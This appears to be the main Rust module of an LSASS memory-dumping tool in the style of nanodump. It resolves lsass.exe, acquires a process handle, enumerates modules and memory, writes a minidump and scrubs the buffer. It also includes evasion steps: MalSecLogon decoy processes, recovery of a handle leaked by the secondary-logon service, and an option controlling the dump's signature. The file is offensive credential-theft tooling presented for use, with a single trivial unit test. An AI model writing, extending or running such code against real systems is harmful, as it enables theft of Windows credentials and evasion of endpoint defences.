//! Sequences the dump end to end and is the crate's main entry point:
//! resolve the target -> acquire a handle -> enumerate modules -> enumerate
//! memory -> write -> sink -> scrub -> close.
//!
//! Cleanup-on-early-return is carried by `Drop` impls
//! ([`crate::handle_acquisition::OwnedHandle`],
//! [`crate::handle_acquisition::SpawnedDecoys`]) rather than manual
//! early-return bookkeeping -- the idiomatic-Rust shape of spec.md §4.G's
//! "early-return on any failure runs partial cleanup": as soon as a
//! `?` propagates out of [`dump_to_buffer`], whatever handle and decoy
//! list it had constructed so far drop right there.
use std::path::Path;

use crate::config::DumpConfig;
use crate::dump_writer::MemoryReadHole;
use crate::error::Error;
use crate::error_list::SoftErrorList;
use crate::handle_acquisition::{self, OwnedHandle, SpawnedDecoys};
use crate::modules::ModuleReadError;
use crate::ntapi::Gateway;
use crate::{dump_writer, memory_enumerator, modules, process_list, sink};

/// Every non-fatal problem this crate can produce, bridged up from the two
/// subsystems that collect their own ([`modules::enumerate_modules`]'s
/// per-module skips, [`dump_writer::write_dump`]'s per-range read holes)
/// into the one list a caller of [`dump_to_buffer`] sees.
#[derive(Debug, thiserror::Error, serde::Serialize)]
pub enum DumpSoftError {
    #[error(transparent)]
    Modules(SoftErrorList<ModuleReadError>),
    #[error(transparent)]
    MemoryHoles(SoftErrorList<MemoryReadHole>),
}

/// A finished dump buffer plus whatever soft errors were collected while
/// producing it. Callers that don't care about diagnostics can ignore
/// `soft_errors` entirely.
pub struct DumpOutcome {
    pub buffer: Vec<u8>,
    pub soft_errors: SoftErrorList<DumpSoftError>,
}

/// What one invocation of [`run_dump`] actually accomplished.
pub enum RunOutcome {
    /// A dump buffer was produced directly by this invocation -- the
    /// common case, the MalSecLogon "remote" variant's stage 1, and any
    /// stage 2 invocation (local or remote).
    Dumped(DumpOutcome),
    /// This was the MalSecLogon "local" variant's stage 1: the decoy was
    /// spawned and is expected to write the dump file itself, running
    /// this same library with `stage2 = true`. Per spec.md §9, this crate
    /// does not poll the destination path on the caller's behalf.
    SpawnedLocalStage2 { decoy_pid: u32 },
}

/// Resolves the target PID per `config`: an explicit override, or a
/// lsass.exe lookup by name.
fn resolve_target_pid(config: &DumpConfig) -> crate::Result<u32> {
    match config.pid {
        Some(pid) => Ok(pid),
        None => process_list::find_lsass(),
    }
}

/// Runs one dump attempt.
///
/// For every strategy except the MalSecLogon local variant's stage 1,
/// this produces a buffer directly. The local variant's stage 1 instead
/// spawns the decoy and returns, leaving the actual dump to a *separate*
/// invocation of this library (the spawned decoy, with `stage2 = true`).
pub fn run_dump(config: &DumpConfig) -> crate::Result<RunOutcome> {
    if !config.stage2 && config.use_malseclogon_locally() {
        let malseclogon = config
            .malseclogon
            .as_ref()
            .expect("use_malseclogon_locally() implies malseclogon is Some");
        let target_pid = resolve_target_pid(config)?;
        let decoy_pid = handle_acquisition::spawn_decoy_for_local_stage(malseclogon, target_pid)?;
        return Ok(RunOutcome::SpawnedLocalStage2 { decoy_pid });
    }

    dump_to_buffer(config).map(RunOutcome::Dumped)
}

/// Runs the dump pipeline through to a finished buffer: acquire a handle,
/// enumerate what's worth dumping, and serialize it.
///
/// The output buffer is *not* scrubbed here -- that happens once the
/// caller has actually consumed it (see [`dump_to_path`]), matching
/// spec.md's sink-then-scrub ordering. The acquired handle and any
/// spawned decoys, however, are always cleaned up by the time this
/// function returns, success or failure alike, since they're owned by
/// RAII guards local to this call.
pub fn dump_to_buffer(config: &DumpConfig) -> crate::Result<DumpOutcome> {
    let gateway = Gateway::resolve()?;
    let mut soft_errors = SoftErrorList::default();

    let target_pid = resolve_target_pid(config)?;

    let (handle, _decoys) = acquire_handle_for_config(&gateway, config, target_pid)?;

    let mut modules = modules::enumerate_modules(
        &gateway,
        handle.raw(),
        config.important_only,
        soft_errors.map_sublist(DumpSoftError::Modules),
    )?;

    let memory_ranges = memory_enumerator::enumerate_memory(&gateway, handle.raw(), &modules);

    let buffer = dump_writer::write_dump(
        &gateway,
        handle.raw(),
        &mut modules,
        &memory_ranges,
        config.valid_signature,
        config.max_size,
        soft_errors.map_sublist(DumpSoftError::MemoryHoles),
    )?;

    Ok(DumpOutcome { buffer, soft_errors })
}

/// Runs the dump pipeline and delivers the result to `path`, scrubbing the
/// buffer afterward regardless of whether the write succeeded.
pub fn dump_to_path(config: &DumpConfig, path: &Path) -> crate::Result<SoftErrorList<DumpSoftError>> {
    let mut outcome = dump_to_buffer(config)?;
    let sink_result = sink::write_to_path(&outcome.buffer, path);
    sink::scrub(&mut outcome.buffer);
    sink_result?;
    Ok(outcome.soft_errors)
}

/// Picks the handle-acquisition path for `config`: the normal
/// strategy-composition flow for every invocation except stage 2, which
/// instead recovers a handle the secondary-logon service already left
/// sitting in its own handle table.
fn acquire_handle_for_config(
    gateway: &Gateway,
    config: &DumpConfig,
    target_pid: u32,
) -> crate::Result<(OwnedHandle, SpawnedDecoys)> {
    if config.stage2 {
        let mask = handle_acquisition::base_access_mask(config);
        let handle = handle_acquisition::recover_own_leaked_handle(gateway, mask, target_pid)?;
        return Ok((handle, SpawnedDecoys::none()));
    }

    let acquired = handle_acquisition::acquire_handle(gateway, config, target_pid)?;
    Ok((acquired.handle, acquired.decoys))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn resolve_target_pid_prefers_explicit_override() {
        let config = DumpConfig {
            pid: Some(4242),
            ..Default::default()
        };
        assert_eq!(resolve_target_pid(&config).unwrap(), 4242);
    }
}
